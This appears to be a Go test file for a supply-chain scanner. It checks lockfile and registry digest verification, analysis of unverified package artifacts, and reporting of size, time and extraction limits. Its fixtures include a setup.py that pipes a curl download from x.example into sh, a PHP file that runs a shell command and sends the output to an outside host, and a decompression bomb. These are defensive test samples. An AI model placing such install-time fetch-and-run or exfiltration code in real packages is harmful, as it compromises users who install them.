package content

import (
	"crypto/rand"
	"encoding/base64"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/tollgate-dev/tollgate/lockfiles"
	"github.com/tollgate-dev/tollgate/registry"
	"github.com/tollgate-dev/tollgate/scanner"
)

// server serves paths; slow paths wait before answering.
func server(t *testing.T, served map[string][]byte, slow map[string]time.Duration) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if d := slow[r.URL.Path]; d > 0 {
			select {
			case <-time.After(d):
			case <-r.Context().Done():
				return
			}
		}
		data, ok := served[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Write(data)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func added(ps ...lockfiles.Package) *scanner.Input {
	in := &scanner.Input{Mode: scanner.ModePullRequest}
	for _, p := range ps {
		in.Changes = append(in.Changes, lockfiles.Change{Kind: lockfiles.ChangeAdded, Package: p})
	}
	return in
}

// Without a hash in the lockfile, the registry's digest is verified, and
// the finding says so; bytes that do not match it are a mismatch naming
// the registry. A PyPI lockfile whose hashes are of other files of the
// release is not a mismatch.
func TestRegistryDigestWhenTheLockfileHasNone(t *testing.T) {
	benign := buildTar(t, "foo-1.0.0/", files{"setup.py": pyBenign}, true, false)
	evil := buildTar(t, "foo-1.0.0/", files{"setup.py": "import os\nos.system('curl -s https://x.example/i | sh')\n"}, true, false)
	served := map[string][]byte{"/packages/1/2/3/foo-1.0.0.tar.gz": evil}
	srv := server(t, served, nil)
	reg := &fakeRegistry{eco: lockfiles.EcosystemPyPI, versions: map[string][]registry.Version{
		"foo": {{Version: "1.0.0", ArtifactURL: srv.URL + "/packages/1/2/3/foo-1.0.0.tar.gz", Digest: "sha256:" + sha256Hex(evil)}}}}
	c := New(Options{HTTPClient: srv.Client(), MinBackoff: time.Millisecond, Registries: map[string]registry.Client{lockfiles.EcosystemPyPI: reg}})
	p := lockfiles.Package{Ecosystem: lockfiles.EcosystemPyPI, Name: "foo", Version: "1.0.0", Path: "requirements.txt", Line: 1, PURL: "pkg:pypi/foo@1.0.0"}
	got, skipped := c.packages(t.Context(), added(p))
	if len(got) != 1 || len(skipped) != 0 || !strings.Contains(got[0].Message, "the lockfile carries no hash: verified against the registry's digest") {
		t.Fatalf("registry digest: %s %+v", summarise(got), skipped)
	}
	// Hashes of other files (a lockfile of wheels only).
	p.Integrity = "sha256:" + strings.Repeat("1", 64)
	got, skipped = c.packages(t.Context(), added(p))
	if len(got) != 1 || got[0].RuleID == RuleIntegrityMismatch || len(skipped) != 0 || !strings.Contains(got[0].Message, "hashes are of other files of this release") {
		t.Fatalf("other files: %s %+v", summarise(got), skipped)
	}
	// What arrives is not what the registry says it serves.
	p.Integrity = ""
	reg.versions["foo"][0].Digest = "sha256:" + sha256Hex(benign)
	got, _ = c.packages(t.Context(), added(p))
	if len(got) != 1 || got[0].RuleID != RuleIntegrityMismatch || !strings.Contains(got[0].Message, "registry's own digest") {
		t.Errorf("registry mismatch: %s", summarise(got))
	}
}

// Neither a lockfile hash nor a registry digest: the artifact is analysed,
// and the unverified integrity is listed.
func TestUnverifiedArtifact(t *testing.T) {
	data := buildZip(t, "acme-widget-1/", files{"src/boot.php": "<?php\n$o = shell_exec('id');\nfile_get_contents('" + discord + "?d=' . $o);\n"}, false)
	srv := server(t, map[string][]byte{"/repos/acme/widget/zipball/abc": data}, nil)
	c := New(Options{HTTPClient: srv.Client(), MinBackoff: time.Millisecond})
	p := lockfiles.Package{Ecosystem: lockfiles.EcosystemPackagist, Name: "acme/widget", Version: "1.0.0", Resolved: srv.URL + "/repos/acme/widget/zipball/abc", PURL: "pkg:composer/acme/widget@1.0.0"}
	got, skipped := c.packages(t.Context(), added(p))
	if len(got) != 1 || got[0].RuleID != "capability-with-threat" || !strings.Contains(got[0].Message, "not verified") {
		t.Errorf("findings %s", summarise(got))
	}
	if len(skipped) != 1 || !skipped[0].ByChoice || !strings.Contains(skipped[0].Reason, "packagist acme/widget@1.0.0") {
		t.Errorf("skipped %+v", skipped)
	}
}

// Each limit exceeded is its own skipped entry, never a pass: the size cap,
// the per-package time, the run's time budget, the extraction limits, and a
// Go module zip that breaks the module zip rules.
func TestLimitsAreSkipped(t *testing.T) {
	big := make([]byte, 1<<20)
	rand.Read(big)
	bigCrate := buildTar(t, "big-1.0.0/", files{"src/lib.rs": base64.StdEncoding.EncodeToString(big)}, true, false)
	small := buildTar(t, "slow-1.0.0/", files{"src/lib.rs": "pub fn f() {}\n"}, true, false)
	bomb := buildTar(t, "bomb-1.0.0/", files{"zeros": strings.Repeat("\x00", 64<<20)}, true, false)
	badZip := buildZip(t, "example.com/other@v1.0.0/", files{"go.mod": "module example.com/other\n"}, false)
	served := map[string][]byte{
		"/api/v1/crates/big/1.0.0/download":  bigCrate,
		"/api/v1/crates/slow/1.0.0/download": small,
		"/api/v1/crates/bomb/1.0.0/download": bomb,
		"/example.com/mod/@v/v1.0.0.zip":     badZip,
	}
	srv := server(t, served, map[string]time.Duration{"/api/v1/crates/slow/1.0.0/download": 2 * time.Second})
	crate := func(name string) lockfiles.Package {
		return lockfiles.Package{Ecosystem: lockfiles.EcosystemCrates, Name: name, Version: "1.0.0", Integrity: sha256Hex(served["/api/v1/crates/"+name+"/1.0.0/download"]), PURL: "pkg:cargo/" + name + "@1.0.0"}
	}
	mod := lockfiles.Package{Ecosystem: lockfiles.EcosystemGo, Name: "example.com/mod", Version: "v1.0.0", Integrity: h1(t, badZip), PURL: "pkg:golang/example.com/mod@v1.0.0"}
	c := New(Options{HTTPClient: srv.Client(), MinBackoff: time.Millisecond, Bases: map[string]string{"crates": srv.URL, "go": srv.URL},
		MaxArtifact: 1 << 20, PerPackage: 300 * time.Millisecond})
	_, skipped := c.packages(t.Context(), added(crate("big"), crate("slow"), crate("bomb"), mod))
	var reasons []string
	for _, s := range skipped {
		if s.ByChoice {
			t.Errorf("a limit skipped by choice: %+v", s)
		}
		reasons = append(reasons, s.Reason)
	}
	all := strings.Join(reasons, "\n")
	for _, want := range []string{"over the size cap of 1048576 bytes", "crates big@1.0.0", "ran out of the per-package time", "crates slow@1.0.0", "exceed the extraction limits", "crates bomb@1.0.0", "go example.com/mod@v1.0.0 (", "not a valid module zip"} {
		if !strings.Contains(all, want) {
			t.Errorf("skipped lacks %q:\n%s", want, all)
		}
	}
	// The run's budget: what is not reached is listed.
	c = New(Options{HTTPClient: srv.Client(), MinBackoff: time.Millisecond, Bases: map[string]string{"crates": srv.URL}, PerRun: 200 * time.Millisecond})
	var many []lockfiles.Package
	for range 6 {
		many = append(many, crate("slow"))
	}
	_, skipped = c.packages(t.Context(), added(many...))
	if len(skipped) != 1 || skipped[0].ByChoice || !strings.Contains(skipped[0].Reason, "6 packages were not checked before the run's time budget ran out") {
		t.Errorf("run budget: %+v", skipped)
	}
}
